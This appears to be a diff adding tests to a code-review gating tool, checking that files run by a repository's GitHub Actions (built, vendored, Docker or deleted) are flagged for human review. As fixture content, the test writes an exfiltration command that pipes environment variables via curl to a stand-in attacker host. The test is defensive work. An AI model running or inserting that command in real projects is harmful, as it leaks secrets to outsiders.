@@ -911,3 +911,72 @@ describe('#140 what a checkout writes is not always the blob: attributes that ch
     expect(readScope(repo).files.map((f: { path: string }) => f.path)).toEqual(['plain.js']);
   });
 });
+
+describe('#148 what a GitHub Action of the repository runs, wherever it lives', () => {
+  const ACTIONS: Record<string, string> = {
+    'tools/setup/action.yml': "name: setup\nruns:\n  using: node20\n  main: './dist/index.js'\n  post: dist/cleanup.js\n",
+    'ci/lint/action.yaml': "runs: { using: 'node24', main: '..\\..\\Shared\\BUILD\\run.js' }\n",
+    'docker/scan/action.yml': 'runs:\n  using: docker\n  image: vendor/Dockerfile\n',
+    'old/action.yml': 'runs:\n  using: node20\n  main: dist/main.js\n',
+    'broken/action.yml': 'runs: [main: dist/x.js\n',
+    'build/tool/action.yml': 'runs:\n  using: composite\n  steps: [{ run: echo, shell: bash }]\n',
+  };
+  const RUNS = [
+    'tools/setup/dist/index.js',
+    'tools/setup/dist/chunk-17.js',
+    'tools/setup/node_modules/dep/index.js',
+    'shared/build/run.js',
+    'docker/scan/vendor/Dockerfile',
+    'broken/dist/x.js',
+    'build/tool/action.yml',
+    'old/dist/main.js',
+  ];
+  const change = () => {
+    const repo = makeCartRepo();
+    for (const [path, text] of Object.entries(ACTIONS)) write(repo, path, text);
+    for (const path of [...RUNS, 'old/dist/helper.js', 'web/dist/app.js']) write(repo, path, 'export const v = 1;\n');
+    commitAll(repo, 'actions');
+    for (const path of RUNS.filter((p) => p !== 'old/dist/main.js')) write(repo, path, 'env | curl -d @- https://attacker.example\n');
+    write(repo, 'web/dist/app.js', 'export const app = 2;\n');
+    git(repo, 'rm', '-q', 'old/dist/main.js', 'old/dist/helper.js');
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change');
+    return repo;
+  };
+
+  it("#148 built, vendored or deleted code an action runs needs a person: its entries however spelled, its folder's chunks and node_modules, a Dockerfile it builds, metadata that does not parse, metadata under build/", async () => {
+    const repo = change();
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code, r.stderr).toBe(0);
+    const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
+    // A built file no action runs stays out, as does a deleted file an action does not name (diff.deleted.patch shows it).
+    expect([...listed].sort()).toEqual([...RUNS].sort());
+    const scope = readScope(repo) as Scope & { excluded: { path: string; runBy?: string }[] };
+    expect(scope.excluded.find((e) => e.path === 'shared/build/run.js')?.runBy).toBe('ci/lint/action.yaml');
+    expect(scope.excluded.find((e) => e.path === 'old/dist/main.js')?.runBy).toBe('old/action.yml');
+    expect(scope.excluded.find((e) => e.path === 'web/dist/app.js')?.runBy).toBeUndefined();
+    answer(repo, [], ['src/cart.js']);
+    const event = prEvent(repo, 'HEAD~1');
+    expectIncomplete(
+      await gate(repo, {}, event),
+      /8 changed file\(s\) that no agent reviews: a person must look at each/,
+      rev(repo, 'HEAD'),
+    );
+    const acknowledged = await gate(repo, { acknowledge: RUNS.join('\n') }, event);
+    expect(acknowledged.outputs.verdict, acknowledged.summary.slice(0, 3000)).toBe('clean');
+  });
+
+  it('#148 a scope resealed without what an action runs does not match git', async () => {
+    const repo = change();
+    const sealed = seal(repo, ['--base', 'HEAD~1']) as Scope & { excluded: { path: string; runBy?: string }[] };
+    for (const e of sealed.excluded) delete e.runBy;
+    sealed.scopeSha256 = scopeHash(sealed as never);
+    writeFileSync(scopeFile(repo), JSON.stringify(sealed, null, 2));
+    answer(repo, [], ['src/cart.js']);
+    expectIncomplete(
+      await gate(repo, {}, prEvent(repo, 'HEAD~1')),
+      /8 difference\(s\): broken\/dist\/x\.js: runBy none in scope\.json, broken\/action\.yml in git; /,
+      rev(repo, 'HEAD'),
+    );
+  });
+});
